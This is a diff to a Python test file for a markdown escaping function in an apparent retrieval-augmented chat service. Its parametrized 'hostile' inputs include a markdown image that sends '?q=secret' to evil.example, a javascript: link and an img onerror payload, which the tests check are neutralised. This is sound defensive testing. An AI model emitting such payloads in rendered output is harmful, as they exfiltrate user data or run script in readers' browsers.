@@ -5,21 +5,22 @@ from dataclasses import replace
 
 import pytest
 
-from shrag.serving.api.chat_completions.response import AnswerText, escape_markdown
+from shrag.serving.api.chat_completions.markdown import escape_markdown
+from shrag.serving.api.chat_completions.response import AnswerText
 from shrag.serving.events import Answer, AnswerSentence, Citation, Fallback, Ranking, Section, Sentence
 
 
 @pytest.mark.parametrize(
     ("hostile", "shown"),
     [
-        ("![x](http://evil.example/?q=secret)", r"!\[x]\(http://evil.example/?q=secret)"),
+        ("![x](http://evil.example/?q=secret)", r"!\[x]\(`http://evil.example/?q=secret)`"),
         ("![x][ref]", r"!\[x]\[ref]"),
-        ("[ref]: http://evil.example", r"[ref]\: http://evil.example"),
+        ("[ref]: http://evil.example", r"[ref]\: `http://evil.example`"),
         ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
         ("<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)>"),
         ("</div><!-- a -->", r"\</div>\<!-- a -->"),
-        ("<http://evil.example>", r"\<http://evil.example>"),
-        ("```html", r"``\`html"),
+        ("<http://evil.example>", r"\<`http://evil.example>`"),
+        ("```html", r"\`\`\`html"),
         ("p < 0.05 [1], 30 > 20", "p < 0.05 [1], 30 > 20"),
     ],
 )
@@ -83,7 +84,7 @@ def test_sources_stand_at_the_end_and_each_annotation_points_at_its_first_mark()
     text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1, 2))))
     text.feed(AnswerSentence("body", Sentence("So it did.", (2,))))
     last = text.feed(_answer(Citation(1, "a#1", "![A](http://x)"), Citation(2, "b", "")))
-    assert last.endswith("**Sources**\n\n- [1] !\\[A]\\(http://x) (a#1)\n- [2]  (b)")
+    assert last.endswith("**Sources**\n\n- [1] !\\[A]\\(`http://x)` (a#1)\n- [2]  (b)")
     first, second = (one.url_citation for one in text.annotations)
     assert (text.text[first.start_index : first.end_index], first.url) == ("[1]", "/d?a#1")
     assert (text.text[second.start_index : second.end_index], second.title) == ("[2]", "b")
